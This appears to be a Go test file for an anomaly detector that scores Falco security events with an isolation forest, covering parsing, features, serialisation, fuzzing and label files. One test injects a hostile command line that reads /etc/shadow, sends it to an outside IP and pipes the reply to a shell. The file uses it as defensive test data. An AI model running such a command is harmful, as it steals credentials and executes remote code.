package events_test

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"agentc/forest"
	"agentc/forest/events"
	"agentc/forest/synthetic"
	"agentc/schema"
)

// shipped are the features of the shipped fleet.
func shipped(t testing.TB) schema.FeaturesSpec {
	t.Helper()
	data, err := os.ReadFile("../../policies/soc/features.yaml")
	if err != nil {
		t.Fatal(err)
	}
	doc, problems := schema.ReadFeatures("features.yaml", data)
	if len(problems) > 0 {
		t.Fatal(problems)
	}
	return doc.Features.Spec
}

func day(t testing.TB, o synthetic.Options) []byte {
	t.Helper()
	o.Start, o.Length = time.Date(2026, 11, 2, 0, 0, 0, 0, time.UTC), 24*time.Hour
	var b bytes.Buffer
	if err := synthetic.Write(&b, o); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// source reads lines again and again.
func source(t testing.TB, lines []byte) events.Source {
	return func(each func(*events.Event) error) error {
		s, err := events.NewStream(bytes.NewReader(lines), events.SourceFalco)
		if err != nil {
			return err
		}
		return events.Each(s, each, func(d *events.DamagedError) error { return d })
	}
}

// field is the value of one; empty where there is none.
func field(e *events.Event, name string) string {
	value, _ := e.Get(name)
	return value
}

func written(t testing.TB, m *events.Model) string {
	t.Helper()
	var b bytes.Buffer
	if err := m.Write(&b); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestIncidents: on a day that the forest did not see, nearly all incidents are among the twentieth of the events that are most unusual.
func TestIncidents(t *testing.T) {
	m, err := events.Train(shipped(t), source(t, day(t, synthetic.Options{Seed: 1, Events: 8000})), forest.Options{Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	s := m.Scorer()
	passed, caught, incidents, all := 0, 0, 0, 0
	lines := day(t, synthetic.Options{Seed: 2, Events: 8000, Incidents: 0.005})
	for line := range bytes.Lines(lines) {
		e, err := events.Parse(line, events.SourceFalco)
		if err != nil {
			t.Fatal(err)
		}
		r, err := s.Score(e)
		if err != nil {
			t.Fatal(err)
		}
		all++
		_, incident := e.Get("incident")
		if incident {
			incidents++
		}
		if r.Percentile >= 95 {
			passed++
			if incident {
				caught++
			}
		}
	}
	t.Logf("%d of %d incidents in %d of %d events", caught, incidents, passed, all)
	if incidents < 20 || float64(caught) < 0.95*float64(incidents) || float64(passed) > 0.07*float64(all) {
		t.Errorf("%d of %d incidents in %d of %d events", caught, incidents, passed, all)
	}
}

// TestOrder: the order of the events means nothing, and a model is read back as it was written, and in no other form.
func TestOrder(t *testing.T) {
	lines := day(t, synthetic.Options{Seed: 1, Events: 600})
	first, err := events.Train(shipped(t), source(t, lines), forest.Options{Trees: 5})
	if err != nil {
		t.Fatal(err)
	}
	list := slices.Collect(bytes.Lines(lines))
	rand.New(rand.NewPCG(1, 1)).Shuffle(len(list), func(i, j int) { list[i], list[j] = list[j], list[i] })
	again, err := events.Train(shipped(t), source(t, bytes.Join(list, nil)), forest.Options{Trees: 5})
	if err != nil {
		t.Fatal(err)
	}
	text := written(t, first)
	if written(t, again) != text {
		t.Error("the order of the events changed the model")
	}
	read, err := events.Read(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	if written(t, read) != text {
		t.Error("it is written in another way the second time")
	}
	for _, edit := range [][2]string{
		{`{"format":1,`, `{"format": 1,`}, {`{"format":1,`, `{"format":2,`}, {`"total":600`, `"total":601`}, {`"name":"priority"`, `"name":"rule-rarity"`},
		{`"name":"priority"`, `"name":"prio"`}, {`"present":"k8s.ns.name"`, `"rarity":["k8s.ns.name"]`}, {"}\n}\n", "}\n}\n\n"},
	} {
		if !strings.Contains(text, edit[0]) {
			t.Fatalf("no %q", edit[0])
		}
		if _, err := events.Read(strings.NewReader(strings.Replace(text, edit[0], edit[1], 1))); err == nil {
			t.Errorf("%q for %q is read", edit[1], edit[0])
		}
	}
}

// TestStream: lines that are no events are told by their number, and nothing is lost around them.
func TestStream(t *testing.T) {
	long := `{"rule": "` + strings.Repeat("x", events.MaxLine) + `"}`
	almost := `{"rule": "` + strings.Repeat("y", events.MaxLine-100) + `"}`
	text := "{\"rule\": \"a\"}\n\n  \r\nnot json\n[1]\nnull\n" + long + "\n" + almost + "\n{\"rule\": \"b\", \"tags\": 3}\n{\"output_fields\": []}\n{\"rule\": \"c\"}"
	var packed bytes.Buffer
	zw := gzip.NewWriter(&packed)
	zw.Write([]byte(text))
	zw.Close()
	for _, in := range []io.Reader{strings.NewReader(text), &packed} {
		s, err := events.NewStream(in, events.SourceFalco)
		if err != nil {
			t.Fatal(err)
		}
		var rules, damaged []string
		err = events.Each(s, func(e *events.Event) error {
			rules = append(rules, fmt.Sprintf("%.1s", field(e, "rule")))
			return nil
		}, func(d *events.DamagedError) error {
			damaged = append(damaged, fmt.Sprint(d.Line))
			return nil
		})
		if got := strings.Join(rules, " "); err != nil || got != "a y c" {
			t.Errorf("%q, %v", got, err)
		}
		if got := strings.Join(damaged, " "); got != "4 5 6 7 9 10" {
			t.Errorf("damaged are %s", got)
		}
	}
}

// TestEvent: an event as it comes: output fields, null, numbers, escapes; a field of the output cannot pass itself off as the event's.
func TestEvent(t *testing.T) {
	e, err := events.Parse([]byte(`{"rule": "R\"1", "priority": "Critical", "extra": {"a": [1]}, "tags": ["x"],
		"output_fields": {"proc.name": null, "user.uid": 0, "k": true, "rule": "forged", "proc.aname[2]": "bash"}}`), events.SourceFalco)
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]string{"rule": `R"1`, "priority": "Critical", "extra": `{"a": [1]}`, "user.uid": "0", "k": "true", "proc.aname[2]": "bash"}
	for name, value := range want {
		if field(e, name) != value {
			t.Errorf("%s is %q, not %q", name, field(e, name), value)
		}
	}
	if _, there := e.Get("proc.name"); there || len(e.All()) != len(want) || len(e.Tags) != 1 {
		t.Errorf("%+v", e)
	}
}

// TestRow: each kind of feature, with the value and without.
func TestRow(t *testing.T) {
	minus := -5.0
	spec := schema.FeaturesSpec{Features: []schema.Feature{
		{Name: "ordinal", Ordinal: &schema.Ordinal{Field: "priority", Order: []string{"Low", "High"}}},
		{Name: "number", Number: &schema.Number{Field: "n"}, Missing: &minus},
		{Name: "log", Number: &schema.Number{Field: "n", Scale: "log"}},
		{Name: "length", Text: &schema.Text{Field: "c", Shape: "length"}},
		{Name: "entropy", Text: &schema.Text{Field: "c", Shape: "entropy"}},
		{Name: "digits", Text: &schema.Text{Field: "c", Shape: "digits"}},
		{Name: "meta", Text: &schema.Text{Field: "c", Shape: "meta"}},
		{Name: "depth", Text: &schema.Text{Field: "c", Shape: "depth"}},
		{Name: "rarity", Rarity: []string{"priority", "n"}},
		{Name: "present", Present: "n"},
		{Name: "flag", Flag: &schema.Flag{Field: "n", Values: []string{"7"}}},
		{Name: "tag", Tag: "mitre_"},
	}}
	full, empty := `{"priority": "High", "n": 7, "c": "a1/b|", "tags": ["x", "mitre_y"]}`, `{}`
	m, err := events.Train(spec, source(t, []byte(full+"\n"+full+"\n"+full+"\n"+empty+"\n")), forest.Options{})
	if err != nil {
		t.Fatal(err)
	}
	s := m.Scorer()
	for text, want := range map[string]string{
		full:  "[1 7 2.0794415 1.7917595 2.321928 0.2 1 1 0.45198512 1 1 1]",
		empty: "[-1 -5 -1 -1 -1 -1 -1 -1 1.299283 0 0 0]",
		`{"priority": "High", "n": "Infinity", "c": ""}`: "[1 -5 -1 0 0 0 0 0 2.3978953 1 0 0]",
		`{"priority": "Other", "n": "x"}`:                "[-1 -5 -1 -1 -1 -1 -1 -1 2.3978953 1 0 0]",
	} {
		e, err := events.Parse([]byte(text), events.SourceFalco)
		if err != nil {
			t.Fatal(err)
		}
		if got := fmt.Sprint(s.Row(e)); got != want {
			t.Errorf("%s:\n %s, want\n %s", text, got, want)
		}
	}
}

func TestCheck(t *testing.T) {
	zero := 0.0
	spec := schema.FeaturesSpec{Features: []schema.Feature{
		{Name: "a", Present: "x"}, {Name: "a", Present: "y"}, {Name: "b"}, {Name: "c", Present: "x", Tag: "y"},
		{Name: "d", Rarity: []string{"1", "2", "3", "4", "5"}}, {Name: "e", Present: "x", Missing: &zero},
	}}
	var got []string
	for _, wrong := range events.Check(&spec) {
		got = append(got, wrong.Error())
	}
	want := []string{
		"features[1]: a is the name of features[0] too",
		"features[2]: b says 0 things; it says one of ordinal, number, text, rarity, present, flag and tag",
		"features[3]: c says 2 things; it says one of ordinal, number, text, rarity, present, flag and tag",
		"features[4]: d is the rarity of 5 fields together; one to four have one",
		"features[5]: e has a value without the field; missing is of an ordinal, number or text",
	}
	if !slices.Equal(got, want) {
		t.Errorf("%q", got)
	}
	_, err := events.Train(spec, source(t, nil), forest.Options{})
	var wrong *events.FeatureError
	if !errors.As(err, &wrong) || wrong.Index != 1 {
		t.Errorf("%v", err)
	}
}

// TestReasons: what is named as the reason is what is odd about an event.
func TestReasons(t *testing.T) {
	m, err := events.Train(shipped(t), source(t, day(t, synthetic.Options{Seed: 1, Events: 4000})), forest.Options{Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	line, _, _ := bytes.Cut(day(t, synthetic.Options{Seed: 2, Events: 1}), []byte("\n"))
	var event map[string]any
	if err := json.Unmarshal(line, &event); err != nil {
		t.Fatal(err)
	}
	event["output_fields"].(map[string]any)["proc.cmdline"] = strings.Repeat("curl http://203.0.113.9/$(cat /etc/shadow)|sh; ", 9)
	odd, err := json.Marshal(event)
	if err != nil {
		t.Fatal(err)
	}
	e, err := events.Parse(odd, events.SourceFalco)
	if err != nil {
		t.Fatal(err)
	}
	reasons, err := m.Scorer().Reasons(e, 3)
	odds := 0
	for i, r := range reasons {
		if strings.HasPrefix(r.Feature, "cmdline-") {
			odds++
		}
		if r.Credit <= 0 || i > 0 && r.Credit > reasons[i-1].Credit {
			t.Errorf("%+v is out of order", r)
		}
	}
	if err != nil || len(reasons) != 3 || odds < 2 {
		t.Errorf("%+v, %v", reasons, err)
	}
}

// FuzzParse: whatever a line holds, it is an event that can be scored, or refused.
func FuzzParse(f *testing.F) {
	f.Add(day(f, synthetic.Options{Seed: 3, Events: 1}))
	f.Add([]byte(`{"output_fields": {"proc.cmdline": "\u0000\ud800", "user.uid": 1e999}, "tags": [null]}`))
	m, err := events.Train(shipped(f), source(f, day(f, synthetic.Options{Seed: 1, Events: 50})), forest.Options{Trees: 2})
	if err != nil {
		f.Fatal(err)
	}
	s := m.Scorer()
	f.Fuzz(func(t *testing.T, line []byte) {
		e, err := events.Parse(line, events.SourceFalco)
		if err != nil {
			return
		}
		if r, err := s.Score(e); err != nil || r.Score < -1 || r.Score > 0 || r.Percentile < 0 || r.Percentile > 100 {
			t.Errorf("%+v, %v", r, err)
		}
		trained, err := events.Train(m.Spec, func(each func(*events.Event) error) error { return each(e) }, forest.Options{Trees: 1})
		if err != nil && !s.Sees(e) {
			return
		} else if err != nil {
			t.Fatal(err)
		}
		text := written(t, trained)
		if _, err := events.Read(strings.NewReader(text)); err != nil {
			t.Errorf("%v: %s", err, text)
		}
	})
}

// BenchmarkEvent: what an event costs, step by step. Of some 10 µs on a quiet core of a server about half is parsing, of which a third is memory: a
// copy of the line, the fields, the tags. A third is features, where the fields are looked up, keys of rarities are hashed, and logarithms are taken,
// and a fifth is the walk through a hundred trees. With encoding/json and a map it was 50 µs, and four of five were parsing.
func BenchmarkEvent(b *testing.B) {
	m, err := events.Train(shipped(b), source(b, day(b, synthetic.Options{Seed: 1, Events: 2000})), forest.Options{})
	if err != nil {
		b.Fatal(err)
	}
	lines := day(b, synthetic.Options{Seed: 2, Events: 500})
	s, trees := m.Scorer(), m.Forest.Scorer()
	var list [][]byte
	var parsed []*events.Event
	var rows [][]float32
	for line := range bytes.Lines(lines) {
		e, err := events.Parse(line, events.SourceFalco)
		if err != nil {
			b.Fatal(err)
		}
		list, parsed, rows = append(list, line), append(parsed, e), append(rows, slices.Clone(s.Row(e)))
	}
	for _, step := range []struct {
		name string
		do   func(i int) error
	}{
		{"parse", func(i int) error {
			_, err := events.Parse(list[i], events.SourceFalco)
			return err
		}},
		{"features", func(i int) error {
			s.Row(parsed[i])
			return nil
		}},
		{"score", func(i int) error {
			_, err := trees.Score(rows[i])
			return err
		}},
		{"whole", func(i int) error {
			e, err := events.Parse(list[i], events.SourceFalco)
			if err != nil {
				return err
			}
			_, err = s.Score(e)
			return err
		}},
	} {
		b.Run(step.name, func(b *testing.B) {
			b.SetBytes(int64(len(lines) / len(list)))
			for i := range b.N {
				if err := step.do(i % len(list)); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// TestLabels: a file of labels is read whole, or its first damaged line is named.
func TestLabels(t *testing.T) {
	good := `{"event": {"uuid": "a", "rule": "R"}, "verdict": "incident", "by": "jo@soc.example", "day": "2026-11-03", "reason": "a shell"}` + "\n\n" +
		`{"event": {"rule": "R"}, "verdict": "benign", "by": "jo@soc.example", "day": "2026-11-03"}` + "\n"
	labels, err := events.ReadLabels(strings.NewReader(good), events.SourceFalco)
	if err != nil || len(labels) != 2 || !labels[0].Incident || labels[1].Incident || labels[0].Event.ID() != "a" || !strings.HasPrefix(labels[1].Event.ID(), "sha256:") {
		t.Errorf("%+v, %v", labels, err)
	}
	if said := events.Incidents(labels); !said["a"] || len(said) != 2 {
		t.Errorf("%v", said)
	}
	for edit, want := range map[[2]string]string{
		{`"incident"`, `"bad"`}:                                                 `1: verdict is "bad"; it is incident or benign`,
		{`"by": "jo@soc.example", `, ``}:                                        `1: by is missing; it says whose verdict it is`,
		{`2026-11-03`, `2026-02-30`}:                                            `1: day is "2026-02-30"; it is a day as in 2026-11-03`,
		{`"reason"`, `"reasons"`}:                                               `1: has no key "reasons"; it has event, verdict, by, day, reason`,
		{`{"uuid": "a", "rule": "R"}`, `7`}:                                     `1: event: is no JSON object`,
		{`"a shell"}`, `"a shell"} {}`}:                                         `1: goes on after the label`,
		{`"verdict": "incident"`, `"verdict": "benign", "verdict": "incident"`}: `1: says verdict twice`,
		{`"by"`, `"BY"`}:                                                        `1: has no key "BY"`,
		{`"jo@soc.example"`, `7`}:                                               `1: by is 7; it is a text`,
		{`"event": {"uuid": "a", "rule": "R"}, `, ``}:                           `1: event is missing`,
		{"\n\n", "\n" + `{"event": {}, "verdict": ""}`}:                         `2: `,
	} {
		_, err := events.ReadLabels(strings.NewReader(strings.Replace(good, edit[0], edit[1], 1)), events.SourceFalco)
		if err == nil || !strings.HasPrefix(err.Error(), want) {
			t.Errorf("%q for %q: %v, want %s", edit[1], edit[0], err, want)
		}
	}
}
